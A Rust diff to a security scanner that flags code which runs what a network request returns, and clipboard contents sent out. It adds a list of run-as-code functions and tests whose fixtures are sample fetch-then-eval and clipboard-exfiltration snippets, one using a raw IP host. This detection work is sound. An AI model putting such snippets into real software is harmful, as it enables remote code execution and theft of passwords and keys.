@@ -17,6 +17,7 @@ use std::rc::Rc;
 
 use super::knowledge;
 use super::rules;
+use super::severity::Severity;
 use super::sink::Sink;
 use super::text;
 
@@ -147,6 +148,8 @@ pub(crate) struct Function {
 enum SecretKind {
     /// A credential file (the path's description).
     File,
+    /// What a request returned (the URL): not a secret, but code it carries must not run.
+    Response,
     /// A secret-named environment variable.
     Env,
 }
@@ -531,6 +534,11 @@ pub(crate) enum Role {
     Sequence,
     /// `marshal.loads(data)`: compiled Python whose strings are scanned.
     Marshal,
+    /// Returns what the user copied: passwords, keys and wallet seeds pass through it.
+    Clipboard,
+    /// Runs its arguments as code: `eval`, `exec`, `pickle.loads`, `Function`, `vm.run*`,
+    /// `os.system`, `Invoke-Expression`.
+    Run,
 }
 
 /// One row: in `lang` (or both), calling `callee` plays `role`. A callee starting with `.` is a
@@ -606,6 +614,30 @@ pub(crate) const MODELS: &[Model] = &[
     row(PY, "tuple", Role::Sequence),
     row(JS, "Array.from", Role::Sequence),
     row(PY, "marshal.loads", Role::Marshal),
+    row(PY, "pyperclip.paste", Role::Clipboard),
+    row(PY, "clipboard.paste", Role::Clipboard),
+    row(JS, "navigator.clipboard.readText", Role::Clipboard),
+    row(JS, "navigator.clipboard.read", Role::Clipboard),
+    row(JS, "clipboardy.read", Role::Clipboard),
+    row(JS, "clipboardy.readSync", Role::Clipboard),
+    row(PS, "get-clipboard", Role::Clipboard),
+    row(PY, "eval", Role::Run),
+    row(PY, "exec", Role::Run),
+    row(PY, "compile", Role::Run),
+    row(PY, "pickle.loads", Role::Run),
+    row(PY, "cloudpickle.loads", Role::Run),
+    row(PY, "dill.loads", Role::Run),
+    row(PY, "os.system", Role::Run),
+    row(PY, "os.popen", Role::Run),
+    row(JS, "eval", Role::Run),
+    row(JS, "Function", Role::Run),
+    row(JS, "vm.runInNewContext", Role::Run),
+    row(JS, "vm.runInThisContext", Role::Run),
+    row(JS, "vm.runInContext", Role::Run),
+    row(JS, "child_process.exec", Role::Run),
+    row(JS, "child_process.execSync", Role::Run),
+    row(PS, "invoke-expression", Role::Run),
+    row(PS, "iex", Role::Run),
     // Decoders of constant text.
     row(PY, "base64.b64decode", Role::Base64),
     row(PY, "base64.standard_b64decode", Role::Base64),
@@ -1221,6 +1253,7 @@ impl Interp<'_, '_> {
                 (None, None) => named(&["path", "literalpath", "name"]).unwrap_or_default(),
             }
         };
+        let callee_name = function.name.clone().or_else(|| method.map(str::to_owned));
         let mut carried = Value::default();
         if let Some(r) = &receiver {
             carried.carry(&r.all_secrets());
@@ -1604,6 +1637,20 @@ impl Interp<'_, '_> {
                     let strings = super::pyc::marshal_strings(bytes);
                     text::scan_decoded_strings(&strings.texts, "marshal", at, self.sink);
                 }
+                self.sink_run(callee_name.as_deref(), &carried.secrets, at);
+                Value::unknown_carrying(carried.secrets)
+            }
+            Some(Role::Clipboard) => {
+                let mut out = Value::unknown_carrying(carried.secrets);
+                out.carry(&[Secret {
+                    kind: SecretKind::File,
+                    what: "the clipboard".to_owned(),
+                    at,
+                }]);
+                out
+            }
+            Some(Role::Run) => {
+                self.sink_run(callee_name.as_deref(), &carried.secrets, at);
                 Value::unknown_carrying(carried.secrets)
             }
             Some(Role::Format) => {
@@ -1624,8 +1671,14 @@ impl Interp<'_, '_> {
                     })
                     .unwrap_or_default();
                 self.sink_request(&url, &carried.secrets, false, at);
-                // A request object carries what it will send (`Request(url, data)`).
+                // A request object carries what it will send (`Request(url, data)`), and what
+                // it returns is the server's to choose.
                 let mut out = Value::unknown_carrying(carried.secrets);
+                out.carry(&[Secret {
+                    kind: SecretKind::Response,
+                    what: url.renderings().remove(0),
+                    at,
+                }]);
                 out.texts = url.texts.clone();
                 out
             }
@@ -1874,6 +1927,34 @@ impl Interp<'_, '_> {
         self.returns.pop().flatten().unwrap_or_default()
     }
 
+    /// Code run from `secrets` that include a request's response: code the server chooses.
+    /// Critical from a raw IP, plain http or a throw-away host; high from any other.
+    fn sink_run(&mut self, runner: Option<&str>, secrets: &[Secret], at: usize) {
+        let runner = runner.unwrap_or("the call");
+        if self.sink.reported_on_line(rules::EXEC_REMOTE_CODE, at) {
+            return;
+        }
+        if let Some(secret) = secrets.iter().find(|s| s.kind == SecretKind::Response) {
+            let url = secret.what.replace([HOLE, SECRET_HOLE], "*");
+            let (severity, how) = match knowledge::classify_source(&url) {
+                knowledge::Source::Throwaway => (
+                    Severity::Critical,
+                    "from a raw IP, plain http or throw-away host",
+                ),
+                _ => (Severity::High, "from"),
+            };
+            self.sink.emit_flow_with(
+                rules::EXEC_REMOTE_CODE,
+                severity,
+                at,
+                secret.at,
+                &format!("the response of {url}"),
+                format!("{runner} runs what a request returns ({how} {url})"),
+                None,
+            );
+        }
+    }
+
     /// A request (or DNS lookup) to `address` carrying `secrets`.
     fn sink_request(&mut self, address: &Value, secrets: &[Secret], dns: bool, at: usize) {
         if secrets.is_empty() {
@@ -1899,6 +1980,7 @@ impl Interp<'_, '_> {
                 None => String::new(),
             };
             match secret.kind {
+                SecretKind::Response => {}
                 SecretKind::File => {
                     let how = if in_name {
                         "in a DNS name".to_owned()
@@ -2289,6 +2371,48 @@ mod tests {
         assert!(!own.contains(&rules::CRED_IN_REQUEST), "{own:?}");
         let (other, _) = rules_of(Lang::Python, &send("https://collector.example/v1"));
         assert!(other.contains(&rules::CRED_IN_REQUEST), "{other:?}");
+    }
+
+    /// What a request returns, run as code: a flow graded by the host; the clipboard is a
+    /// source like a key file.
+    #[test]
+    fn responses_run_as_code_and_the_clipboard_sent_out_are_flows() {
+        let findings = |name: &str, source: &str| -> Vec<(rules::RuleId, Severity)> {
+            let mut sink = Sink::new(name, source).with_shell(crate::scan::shell::scan);
+            if name.ends_with(".py") {
+                crate::scan::python::scan(source, 0, &mut sink);
+            } else {
+                let dialect = crate::scan::javascript::Dialect::JavaScript;
+                crate::scan::javascript::scan(source, 0, dialect, &mut sink);
+            }
+            sink.finish()
+                .0
+                .iter()
+                .map(|f| (f.rule, f.severity))
+                .collect()
+        };
+        let named_host = "import requests\nURL = 'https://cdn.example.net/p'\ndef get():\n    return requests.get(URL).text\ncode = get()\nexec(code)\n";
+        assert!(findings("a.py", named_host).contains(&(rules::EXEC_REMOTE_CODE, Severity::High)));
+        let raw_ip = "const u = 'http://203.0.113.7/p.js';\nfetch(u).then(r => r.text()).then(t => eval(t));\n";
+        assert!(findings("b.js", raw_ip).contains(&(rules::EXEC_REMOTE_CODE, Severity::Critical)));
+        // A response parsed as data, and code that is the file's own, run nothing remote.
+        let data = "import requests, json\nr = requests.get('https://api.example.net/v1')\nprint(json.loads(r.text)['temp'])\nexec('x = 1')\n";
+        assert!(
+            !findings("c.py", data)
+                .iter()
+                .any(|(r, _)| *r == rules::EXEC_REMOTE_CODE)
+        );
+
+        let clipboard = "import pyperclip, requests\nclip = pyperclip.paste()\nrequests.post('https://c.example.net/x', data=clip)\n";
+        assert!(
+            findings("d.py", clipboard).contains(&(rules::CRED_EXFILTRATION, Severity::Critical))
+        );
+        let kept = "import pyperclip\nclip = pyperclip.paste()\nprint(clip.upper())\n";
+        assert!(
+            !findings("e.py", kept)
+                .iter()
+                .any(|(r, _)| *r == rules::CRED_EXFILTRATION)
+        );
     }
 
     /// XOR with a literal key in the forms code uses, a honest XOR checksum, and a reversal.
